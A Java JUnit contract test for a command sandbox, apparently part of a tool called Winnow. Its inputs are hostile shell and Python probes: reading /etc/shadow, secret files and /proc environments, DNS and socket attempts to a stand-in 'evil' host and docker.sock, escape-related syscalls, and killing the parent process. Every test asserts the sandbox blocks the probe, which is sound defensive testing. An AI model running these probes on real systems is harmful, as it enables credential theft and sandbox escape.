package dev.winnow.workspace;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.winnow.Cancellation;
import dev.winnow.WinnowException;
import dev.winnow.workspace.CommandResult.Ending;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** What every tier with walls has to do; hostile commands that were seen or invented. */
abstract class SandboxContract extends SandboxLimitsContract {

  private SandboxCommand command(Map<String, String> environment, String... argv) {
    return new SandboxCommand(
        List.of(argv), workspace, "", environment, List.of(), List.of(), false, LIMITS);
  }

  @Test
  void commandRunsInTheWorkspaceAndItsStatusAndOutputComeBack() {
    CommandResult result = sh("pwd; echo error >&2; touch made; exit 7");
    assertThat(result.ending()).isEqualTo(Ending.EXITED);
    assertThat(result.exitStatus()).isEqualTo(7);
    assertThat(result.output()).isEqualTo(workspace + "\nerror\n");
    assertThat(workspace.resolve("made")).exists();
  }

  @Test
  void signalsAndMissingProgramsHaveTheExitStatusOfTheShell() {
    assertThat(sh("kill -9 $$").exitStatus()).isEqualTo(137);
    assertThat(run(LIMITS, "no-such-program").exitStatus()).isEqualTo(127);
    assertThat(run(LIMITS, "/etc/passwd").exitStatus()).isEqualTo(126);
  }

  @Test
  void argumentsArePassedUnchanged() {
    String odd = "a b\n$(id);'\"*é\\ --end";
    CommandResult result = run(LIMITS, "printf", "%s|", odd, "", "-x");
    assertThat(result.output()).isEqualTo(odd + "||-x|");
  }

  @Test
  void environmentIsMadeFromNothing() {
    CommandResult result =
        sandbox()
            .run(
                command(
                    Map.of("EXTRA", "x=1\ny", "PATH", workspace + ":/usr/bin"),
                    "/usr/bin/env",
                    "-0"),
                Cancellation.never());
    var names =
        List.of(result.output().split("\0")).stream()
            .map(v -> v.replaceAll("(?s)=.*", ""))
            .toList();
    assertThat(names)
        .isSubsetOf(
            "PATH",
            "HOME",
            "TMPDIR",
            "LANG",
            "USER",
            "CI",
            "GIT_CONFIG_NOSYSTEM",
            "EXTRA",
            "PWD",
            "SHLVL",
            "_");
    assertThat(result.output())
        .contains("EXTRA=x=1\ny")
        .contains("PATH=" + workspace + ":/usr/bin");
  }

  @Test
  void homeAndTemporaryDirectoryAreWritableAndGoneAfterwards() {
    CommandResult result =
        sh("echo x > $HOME/f && echo x > $TMPDIR/f && cat $HOME/f && echo $HOME");
    assertThat(result.output()).startsWith("x\n");
    assertThat(sh("cat $HOME/f $TMPDIR/f").exitStatus()).isNotZero();
  }

  @Test
  void programsPlantedInTheWorkspaceAreNotFoundThroughThePath() {
    CommandResult result =
        sh("printf '#!/bin/sh\necho planted' > env; chmod +x env; env >/dev/null; command -v env");
    assertThat(result.output()).doesNotContain("planted").startsWith("/");
  }

  @Test
  void foreignFilesCannotBeRead() throws IOException {
    Path secret = Files.writeString(workspace.resolveSibling("secret"), "provider-key");
    Path other = TestSandboxes.newWorkspace(sandbox());
    Files.writeString(other.resolve("theirs"), "other-candidate");
    CommandResult result =
        sh(
            "cat %s; cat %s/theirs; ls %s; ln -s %s link; cat link; cat /etc/shadow; ls /root; ls /work"
                .formatted(secret, other, other, secret));
    assertThat(result.output())
        .doesNotContain("provider-key", "other-candidate", "theirs\n", "root:", "shared");
  }

  @Test
  void nothingOutsideCanBeWritten() throws IOException {
    Path shared = Files.createDirectory(workspace.resolveSibling("shared"));
    TestSandboxes.give(sandbox(), workspace, shared);
    sh("echo x > %s/f; echo x > /tmp/winnow-%s; ln %s/.. hard".formatted(shared, token, shared));
    assertThat(shared).isEmptyDirectory();
    assertThat(Path.of("/tmp/winnow-" + token)).doesNotExist();
  }

  @Test
  void readOnlyPathsCanBeReadButNotPoisoned() throws IOException {
    Path cache = Files.createDirectory(workspace.resolveSibling("cache"));
    Files.writeString(cache.resolve("jar"), "good");
    TestSandboxes.give(sandbox(), workspace, cache);
    SandboxCommand command =
        new SandboxCommand(
            List.of(
                "sh",
                "-c",
                "cat $0/jar; echo bad > $0/jar; rm $0/jar; touch $0/x; chmod 777 $0",
                cache.toString()),
            workspace,
            "",
            Map.of(),
            List.of(cache),
            List.of(),
            false,
            LIMITS);
    assertThat(sandbox().run(command, Cancellation.never()).output()).startsWith("good");
    assertThat(cache.resolve("jar")).hasContent("good");
    assertThat(cache.resolve("x")).doesNotExist();
  }

  @Test
  void writablePathIsWritable() throws IOException {
    Path extra = Files.createDirectory(workspace.resolveSibling("extra"));
    TestSandboxes.give(sandbox(), workspace, extra);
    SandboxCommand command =
        new SandboxCommand(
            List.of("touch", extra + "/made"),
            workspace,
            "",
            Map.of(),
            List.of(),
            List.of(extra),
            false,
            LIMITS);
    assertThat(sandbox().run(command, Cancellation.never()).exitStatus()).isZero();
    assertThat(extra.resolve("made")).exists();
  }

  @Test
  void environmentOfWinnowIsNotToBeFoundInProc() {
    String own = Long.toString(ProcessHandle.current().pid());
    CommandResult result =
        sh(
            "cat /proc/1/environ /proc/%s/environ /proc/[0-9]*/environ | tr '\\0' '\\n'; head -c1 /proc/%s/mem"
                .formatted(own, own));
    assertThat(result.output()).doesNotContain("JAVA_HOME=", "MAVEN_", "LOGNAME=");
  }

  @Test
  void networkAndNamesAreNotReachable() throws Exception {
    try (var server = java.nio.channels.ServerSocketChannel.open()) {
      server.bind(new java.net.InetSocketAddress(java.net.InetAddress.getLoopbackAddress(), 0));
      server.configureBlocking(false);
      int port = ((java.net.InetSocketAddress) server.getLocalAddress()).getPort();
      CommandResult result =
          run(
              LIMITS,
              "/usr/bin/python3",
              "-c",
              """
              import socket
              def attempt(name, work):
                  try:
                      work(); print(name, 'REACHED')
                  except OSError as e:
                      print(name, 'refused')
              attempt('tcp', lambda: socket.create_connection(('127.0.0.1', %d), 2))
              attempt('dns', lambda: socket.getaddrinfo('secret.evil.test', 80))
              attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53)))
              attempt('abstract', lambda: socket.socket(socket.AF_UNIX).connect('\\0/tmp/dbus'))
              attempt('docker', lambda: socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock'))
              attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW))
              attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))
              """
                  .formatted(port));
      assertThat(result.exitStatus()).as(result.output()).isZero();
      assertThat(result.output()).doesNotContain("REACHED").contains("vsock refused");
      assertThat(server.accept()).isNull();
    }
  }

  @Test
  void kernelInterfacesThatEscapesAreBuiltOnAreClosed() {
    CommandResult result =
        run(
            LIMITS,
            "/usr/bin/python3",
            "-c",
            """
            import ctypes, platform, resource
            libc = ctypes.CDLL(None, use_errno=True)
            x86 = platform.machine() == 'x86_64'
            calls = {'io_uring_setup': 425, 'keyctl': 250 if x86 else 219, 'bpf': 321 if x86 else 280,
                     'perf_event_open': 298 if x86 else 241, 'userfaultfd': 323 if x86 else 282,
                     'mount': 165 if x86 else 40, 'ptrace': 101 if x86 else 117, 'setns': 308 if x86 else 268,
                     'process_vm_readv': 310 if x86 else 270, 'kexec_load': 246 if x86 else 104}
            for name, number in calls.items():
                result = libc.syscall(number, 0, 0, 0, 0, 0)
                print(name, result, ctypes.get_errno())
            print('unshare', libc.unshare(0x10000000), ctypes.get_errno())
            print('clone', libc.syscall(56 if x86 else 220, 0x10000000 | 17, 0, 0, 0, 0), ctypes.get_errno())
            try:
                resource.prlimit(0, 15, (5, 5)); print('mark 0 0')
            except (PermissionError, ValueError):
                print('mark -1 1')
            """);
    assertThat(result.output().lines()).hasSize(13).allMatch(line -> line.endsWith(" -1 1"));
  }

  @Test
  void nestedNamespacesAndCapabilitiesAreNotToBeHad() {
    CommandResult result =
        sh("unshare -Urm echo OUT; grep -E 'CapEff|NoNewPrivs|Seccomp:' /proc/self/status");
    assertThat(result.output())
        .doesNotContain("OUT")
        .contains("CapEff:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2");
  }

  @Test
  void daemonsDieWithTheCommand() {
    CommandResult result =
        sh(
            """
            setsid nohup sleep $1 >/dev/null 2>&1 &
            (setsid sh -c 'sleep $1 & sleep $1 &' sh $1 &) &
            env -i setsid sh -c 'sh -c "sleep $1; true" sh $1 & exec sleep $1' sh $1 >/dev/null 2>&1 &
            exit 3
            """);
    assertThat(result.exitStatus()).isEqualTo(3);
  }

  @Test
  void daemonThatHoldsTheOutputDoesNotHoldTheCommand() {
    CommandResult result = sh("echo before; sleep $1 & exit 0");
    assertThat(result.ending()).isEqualTo(Ending.EXITED);
    assertThat(result.output()).isEqualTo("before\n");
  }

  @Test
  void parentCannotBeKilled() {
    sh("kill -9 $PPID; true");
    assertThat(sh("echo alive").output()).isEqualTo("alive\n");
    long own = ProcessHandle.current().pid();
    assertThat(sh("kill -CONT " + own + " && echo SIGNALLED").output()).doesNotContain("SIGNALLED");
  }

  @Test
  void parallelCommandsOfOneWorkspaceDoNotKillEachOther() {
    List<CommandResult> results =
        dev.winnow.Fork.each(
            List.of(1, 2, 3, 4, 5, 6),
            Cancellation.never(),
            i ->
                cancellation ->
                    sandbox()
                        .run(
                            SandboxCommand.of(
                                workspace, LIMITS, "sh", "-c", "sleep 0." + i + "; echo " + i),
                            cancellation));
    assertThat(results)
        .extracting(CommandResult::output)
        .containsExactly("1\n", "2\n", "3\n", "4\n", "5\n", "6\n");
  }

  @Test
  void binaryOutputSurvivesAsText() {
    CommandResult result = sh("printf '\\377\\000\\033[31mred\\033[0m\\303\\251'");
    assertThat(result.output()).isEqualTo("\ufffd\0\u001b[31mred\u001b[0mé");
    assertThat(PlainText.of(result.output())).isEqualTo("\ufffd\ufffdredé");
  }

  @Test
  void aWorkspaceThatACommandClosesIsOpenForTheNext() {
    SandboxCommand close = SandboxCommand.of(workspace, LIMITS, "chmod", "000", ".");
    checkRan(sandbox().run(close, Cancellation.never()));
    CommandResult next =
        sandbox().run(SandboxCommand.of(workspace, LIMITS, "pwd"), Cancellation.never());
    assertThat(next.output()).isEqualTo(workspace + "\n");
  }

  @Test
  void workspaceThatDoesNotExistIsASandboxError() {
    Path missing = workspace.resolveSibling("missing");
    assertThatThrownBy(() ->
            checkRan(
                sandbox().run(SandboxCommand.of(missing, LIMITS, "true"), Cancellation.never())))
        .isInstanceOf(WinnowException.class)
        .hasMessageContaining("missing");
  }

  private static void checkRan(CommandResult result) {
    assertThat(result.exited()).isTrue();
  }

  @Test
  void toolsOfTheSupportedLanguagesRun() throws IOException {
    assertThat(sh("/usr/bin/python3 -c 'import multiprocessing, ssl; print(1)'").output())
        .isEqualTo("1\n");
    Files.writeString(
        workspace.resolve("test_x.py"),
        "import unittest\nclass T(unittest.TestCase):\n  def test_a(self): self.assertEqual(1, 1)\n");
    Files.writeString(
        workspace.resolve("x.test.js"), "require('node:test').test('a', () => {});\n");
    TestSandboxes.give(sandbox(), workspace);
    assertThat(sh("/usr/bin/python3 -m unittest").output()).contains("OK");
    if (Files.exists(Path.of("/usr/bin/node"))) {
      CommandResult node = sh("node --test");
      assertThat(node.output()).contains("pass 1");
      assertThat(node.exitStatus()).isZero();
    }
    if (Files.isExecutable(Path.of("/usr/bin/git"))) {
      CommandResult git =
          sh(
              "git init -q . && git -c user.name=a -c user.email=b commit -q --allow-empty -m x && git log --oneline");
      assertThat(git.exitStatus()).as(git.output()).isZero();
    }
  }

  @Test
  void everyInstalledJavaRuns() throws IOException {
    Set<Path> homes = new java.util.TreeSet<>(Set.of(Path.of(System.getProperty("java.home"))));
    if (Files.isDirectory(Path.of("/usr/lib/jvm"))) {
      try (var entries = Files.list(Path.of("/usr/lib/jvm"))) {
        entries
            .filter(e -> Files.isDirectory(e, LinkOption.NOFOLLOW_LINKS))
            .filter(e -> Files.isExecutable(e.resolve("bin/java")))
            .forEach(homes::add);
      }
    }
    Files.writeString(
        workspace.resolve("A.java"),
        "public class A { public static void main(String[] a) throws Exception { Thread t = new Thread(() -> System.out.println(42)); t.start(); t.join(); System.out.println(new ProcessBuilder(\"true\").start().waitFor()); Runtime.getRuntime().halt(5); } }");
    TestSandboxes.give(sandbox(), workspace);
    for (Path home : homes) {
      SandboxCommand command =
          new SandboxCommand(
              List.of(home + "/bin/java", "A.java"),
              workspace,
              "",
              Map.of(),
              List.of(home),
              List.of(),
              false,
              LIMITS);
      CommandResult result = sandbox().run(command, Cancellation.never());
      assertThat(result.output()).as(home.toString()).isEqualTo("42\n0\n");
      assertThat(result.exitStatus()).isEqualTo(5);
    }
  }
}
